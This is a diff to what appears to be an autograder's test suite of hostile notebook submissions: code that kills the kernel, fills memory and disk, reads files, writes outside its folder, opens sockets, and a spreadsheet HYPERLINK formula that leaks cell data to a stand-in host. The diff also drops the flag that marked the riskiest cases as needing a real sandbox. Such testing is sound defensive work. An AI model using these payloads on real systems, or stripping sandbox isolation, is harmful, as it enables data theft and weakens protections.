@@ -83,15 +83,12 @@ class Submission:
         What the tests must give.
     happened : str
         Words that the table must say; empty if nothing is to be said.
-    isolated : bool
-        Whether these points need a real sandbox.
     """
 
     name: str
     write: Callable[[nbformat.NotebookNode, Path], None]
     points: float
     happened: str = ""
-    isolated: bool = False
 
 
 GOOD = {"task1": "def mean(x):\n    return np.mean(x)", "task2": "largest = max(column)"}
@@ -318,16 +315,16 @@ def submissions(outside: Path, port: int) -> list[Submission]:
         Submission("kills_its_kernel", _answers(task2="import os\nos._exit(0)"), FIRST, "It ended the kernel"),
         Submission("exits", _answers(task2="exit()"), FIRST),
         Submission("sends_nonsense", _answers(task2=NONSENSE + "\nlargest = max(column)"), FIRST, "a message that cannot be read"),
-        Submission("hides_memory", _answers(task2=HIDDEN_MEMORY + "\nlargest = max(column)"), FIRST, isolated=True),
-        Submission("hides_a_file", _answers(task2=HIDDEN_FILE + "\nlargest = max(column)"), FIRST, isolated=True),
-        Submission("makes_folders", _answers(task2=FOLDERS), FIRST, "too many files", isolated=True),
+        Submission("hides_memory", _answers(task2=HIDDEN_MEMORY + "\nlargest = max(column)"), FIRST),
+        Submission("hides_a_file", _answers(task2=HIDDEN_FILE + "\nlargest = max(column)"), FIRST),
+        Submission("makes_folders", _answers(task2=FOLDERS), FIRST, "too many files"),
         Submission("speaks_nbgrader", _answers(task2="### BEGIN HIDDEN TESTS\nlargest = max(column)"), ALL),
         Submission("links_to_another", _linked, 0, "The folder is a link"),
         Submission("writes_a_book", _writes("word " * 40_000), 0, "more than 100,000 characters"),
         Submission("writes_a_formula", _writes('=HYPERLINK("http://course.example/?"&A1,"click")'), ALL),
         Submission("draws_a_script", _answers(task2=PICTURE + "\nlargest = max(column)"), ALL),
         Submission("shows_a_script", _answers(task2=SCRIPT + "\nlargest = max(column)"), ALL),
-        Submission("reads", _answers(task2=READS + "\nlargest = max(column)"), ALL, isolated=True),
-        Submission("writes_outside", _answers(task2=WRITES.format(folder=str(outside)) + "\nlargest = max(column)"), ALL, isolated=True),
-        Submission("opens_a_socket", _answers(task2=SOCKET.format(port=port) + "\nlargest = max(column)"), ALL, isolated=True),
+        Submission("reads", _answers(task2=READS + "\nlargest = max(column)"), ALL),
+        Submission("writes_outside", _answers(task2=WRITES.format(folder=str(outside)) + "\nlargest = max(column)"), ALL),
+        Submission("opens_a_socket", _answers(task2=SOCKET.format(port=port) + "\nlargest = max(column)"), ALL),
     ]
